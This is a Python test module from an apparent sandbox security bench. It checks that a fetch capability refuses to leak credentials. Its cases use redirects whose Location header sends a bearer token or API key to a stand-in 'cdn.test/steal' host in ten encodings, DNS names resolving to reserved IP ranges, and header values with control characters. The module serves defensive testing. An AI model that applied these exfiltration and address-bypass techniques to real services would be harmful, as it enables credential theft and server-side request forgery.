"""Where a secret cannot be confined it is not sent: a pack holding a caller's connection
reaching its unapproved domains, redirects whose ``Location`` carries the injected secret
in any encoding, addresses the IANA registries call unreachable (some of which
``ipaddress.is_global`` admits), and non-printable header values."""

from __future__ import annotations

import base64
import weakref
from typing import Any, Callable
from urllib.parse import quote

from corral.testing import Exchange

from ..harness import Attack, Bench, Observation, expect_untouched
from .fetch import _denied, _header_denied

#: Benches whose server already serves the /leak routes.
_LEAKING: weakref.WeakSet[Bench] = weakref.WeakSet()


def _html(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


def _json(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


#: How a reflecting API might re-encode the secret it received into a Location.
ENCODINGS: dict[str, Callable[[str], str]] = {
    "percent": lambda t: "?t=" + quote(t, safe="").replace("-", "%2D"),
    "lower-case percent": lambda t: "?t=" + "".join(f"%{b:02x}" for b in t.encode()),
    "double percent": lambda t: "?t=" + quote("".join(f"%{b:02X}" for b in t.encode()), safe=""),
    "base64": lambda t: "?t=" + base64.b64encode(t.encode()).decode(),
    "base64url": lambda t: "?t=" + base64.urlsafe_b64encode(t.encode()).decode().rstrip("="),
    "hex": lambda t: "?t=" + t.encode().hex(),
    "HTML entities": lambda t: "?t=" + _html(t),
    "JSON escapes": lambda t: "?t=" + _json(t),
    "path": lambda t: "/" + t,
    "fragment": lambda t: "#" + t,
}


def _serve_leaks(bench: Bench) -> None:
    """/leak/<n> answers a redirect to cdn.test/steal carrying the credential it received
    (bearer token or api_key), encoded the n-th way."""
    if bench in _LEAKING:
        return
    target = f"http://cdn.test:{bench.server.port}/steal"
    names = sorted(ENCODINGS)

    def handler(exchange: Exchange) -> None:
        request = exchange.request
        secret = (request.headers.get("authorization", "").removeprefix("Bearer ")
                  or request.query.get("api_key", [""])[0])
        encode = ENCODINGS[names[int(exchange.params["n"])]]
        exchange.send(302, b"", [("Location", target + encode(secret))])

    bench.server.handle("GET", "/leak/{n}", handler)
    _LEAKING.add(bench)


def _leak(encoding: str, pack: str) -> Callable[[Bench], Any]:
    def run(bench: Bench) -> Any:
        _serve_leaks(bench)
        conn = bench.alice_conn if pack == "zhostile" else bench.alice_query_conn
        index = sorted(ENCODINGS).index(encoding)
        return bench.call(pack, "Fetch", bench.url(f"/leak/{index}"), connection=conn,
                          principal="alice")
    return run


def _leaks() -> list[Attack]:
    attacks = []
    for encoding in sorted(ENCODINGS):
        for pack, what in (("zhostile", "bearer token"), ("zquery", "query key")):
            attacks.append(Attack(
                f"redirect Location carries the {what} ({encoding})", "secrets",
                "fetch_denied", _leak(encoding, pack), rule="redirect_secret",
                verify=expect_untouched("/steal"), language="zig",
                quick=encoding == "base64" and pack == "zquery"))
    return attacks


def _no_token_at_cdn(bench: Bench, seen: Observation) -> str | None:
    at_cdn = [s for s in seen.new_requests if s.path == "/echo"]
    if not at_cdn:
        return "the approved domain was not reached"
    if any("authorization" in s.headers for s in at_cdn):
        return "alice's token reached the approved non-auth domain"
    return None


def _reach() -> list[Attack]:
    cdn_echo = "http://cdn.test:{port}/echo"
    return [
        Attack("bearer-holding call to an unapproved declared domain", "secrets",
               "fetch_denied", lambda b: b.call(
                   "zhostile", "Fetch", cdn_echo.format(port=b.server.port),
                   connection=b.alice_conn, principal="alice"),
               rule="unapproved_domain", verify=expect_untouched("/echo"), quick=True,
               language="zig"),
        Attack("redirect from the auth domain to an unapproved declared domain", "secrets",
               "fetch_denied", lambda b: b.call(
                   "zhostile", "Fetch", b.url("/redirect?to=" + cdn_echo.format(
                       port=b.server.port)), connection=b.alice_conn, principal="alice"),
               rule="unapproved_domain", verify=expect_untouched("/echo"), language="zig"),
        Attack("approved non-auth domain gets the call but not the token", "secrets", "ok",
               lambda b: b.call("zapproved", "Fetch", cdn_echo.format(port=b.server.port),
                                connection=b.alice_approved_conn, principal="alice"),
               verify=_no_token_at_cdn, language="zig"),
        Attack("redirect Location repeats the query key to a declared domain", "secrets",
               "fetch_denied", lambda b: b.call(
                   "zquery", "Fetch", b.url(
                       f"/reflect-redirect?to=http://cdn.test:{b.server.port}/json"),
                   connection=b.alice_query_conn, principal="alice"),
               rule="redirect_secret", verify=expect_untouched("/json"), quick=True,
               language="zig"),
        Attack("redirect Location sets the injected query parameter", "secrets",
               "fetch_denied", lambda b: b.call(
                   "zquery", "Fetch", b.url("/redirect?to=/echo%3FAPI_KEY%3Dserver-chosen"),
                   connection=b.alice_query_conn, principal="alice"),
               rule="redirect_secret", verify=expect_untouched("/echo"), language="zig"),
    ]


def _addresses() -> list[Attack]:
    return [
        _denied("name resolving to IPv6 site-local fec0::1 (is_global says yes)",
                "http://sitelocal.bench.test:{port}/json", "private_address", quick=True),
        _denied("name resolving to IPv6 documentation 3fff::1 (is_global says yes)",
                "http://doc6.bench.test:{port}/json", "private_address"),
        _denied("name resolving to the 6to4 relay anycast 192.88.99.1 (is_global says yes)",
                "http://relay6to4.bench.test:{port}/json", "private_address", pack="chostile"),
        _denied("name resolving to an SRv6 SID 5f00::1", "http://srv6.bench.test:{port}/json",
                "private_address"),
        _denied("name resolving to local-use NAT64 64:ff9b:1::7f00:1",
                "http://nat64local.bench.test:{port}/json", "private_address"),
        _denied("name resolving to the IPv6 discard prefix 100::1",
                "http://discard6.bench.test:{port}/json", "private_address"),
        _denied("name resolving to IPv6 benchmarking 2001:2::1",
                "http://bench6.bench.test:{port}/json", "private_address"),
        _denied("name resolving to unallocated IPv6 4000::1",
                "http://unallocated6.bench.test:{port}/json", "private_address"),
        _denied("name resolving to TEST-NET-2 198.51.100.7",
                "http://testnet2.bench.test:{port}/json", "private_address", pack="chostile"),
        _denied("name resolving to 6to4 carrying loopback 2002:7f00:1::1",
                "http://sixtofour.bench.test:{port}/json", "private_address"),
        _denied("name resolving to Teredo with a loopback client",
                "http://teredo.bench.test:{port}/json", "private_address"),
    ]


def _headers() -> list[Attack]:
    return [
        _header_denied("C1 control NEL (U+0085) in a header value", "X-Note", "a\x85b",
                       quick=True),
        _header_denied("C1 control CSI (U+009B) in a header value (C)", "X-Note", "\x9b31m",
                       pack="chostile"),
        _header_denied("bidi override (U+202E) in a header value", "X-Note", "abc\u202edcba"),
        _header_denied("zero-width space (U+200B) in a header value", "X-Note", "a\u200bb"),
        _header_denied("line separator (U+2028) in a header value", "X-Note", "a\u2028b"),
        _header_denied("DEL in a header value", "X-Note", "a\x7fb"),
    ]


def attacks() -> list[Attack]:
    return _reach() + _leaks() + _addresses() + _headers()
